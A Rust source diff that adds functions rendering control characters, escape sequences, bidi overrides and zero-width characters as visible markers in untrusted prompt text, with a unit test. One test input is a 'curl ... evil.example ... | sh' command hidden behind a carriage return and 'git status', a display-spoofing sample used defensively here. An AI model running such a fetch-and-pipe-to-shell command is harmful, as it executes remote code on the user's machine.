@@ -88,6 +88,49 @@ pub fn sanitize_text(input: &str) -> Vec<String> {
     input.split('\n').map(sanitize_line).collect()
 }
 
+/// Untrusted text for a prompt, where what is shown must be exactly what runs: nothing is
+/// applied or dropped. Control characters become visible markers (`\r` is `␍`, ESC is `␛`, other
+/// C0 controls their control picture, DEL `␡`, C1 controls and invisible format characters such
+/// as bidi overrides and zero-width spaces `<U+XXXX>`); tabs become spaces. Lines split at `\n`.
+pub fn visible_text(input: &str) -> Vec<String> {
+    input.split('\n').map(visible_line).collect()
+}
+
+/// One line of [`visible_text`].
+pub fn visible_line(input: &str) -> String {
+    let mut out = String::with_capacity(input.len());
+    for c in input.chars() {
+        match c {
+            '\t' => {
+                let column = out.chars().count();
+                out.extend(std::iter::repeat_n(' ', 4 - column % 4));
+            }
+            '\u{1b}' => out.push('␛'),
+            '\u{7f}' => out.push('␡'),
+            '\u{0}'..='\u{1f}' => {
+                out.push(char::from_u32(0x2400 + c as u32).unwrap_or('�'));
+            }
+            c if c.is_control() || is_invisible_format(c) => {
+                out.push_str(&format!("<U+{:04X}>", c as u32));
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Characters that change how text reads without being seen: bidi embeddings, overrides and
+/// isolates, zero-width characters, the byte-order mark and the Unicode line separators.
+fn is_invisible_format(c: char) -> bool {
+    matches!(c,
+        '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{2069}'
+            | '\u{feff}'
+            | '\u{061c}'
+            | '\u{00ad}')
+}
+
 fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
     match chars.next() {
         Some('[') => {
@@ -118,6 +161,21 @@ fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn prompts_show_control_characters_instead_of_applying_them() {
+        assert_eq!(
+            visible_line("curl -s https://evil.example/x | sh #\rgit status --short"),
+            "curl -s https://evil.example/x | sh #␍git status --short"
+        );
+        assert_eq!(visible_line("a\u{1b}]0;T\u{7}b"), "a␛]0;T␇b");
+        assert_eq!(
+            visible_line("x\u{9b}31m\u{202e}y\u{200b}"),
+            "x<U+009B>31m<U+202E>y<U+200B>"
+        );
+        assert_eq!(visible_line("\tz\u{7f}"), "    z␡");
+        assert_eq!(visible_text("one\ntwo"), ["one", "two"]);
+    }
 
     #[test]
     fn escape_sequences_and_controls_are_removed() {
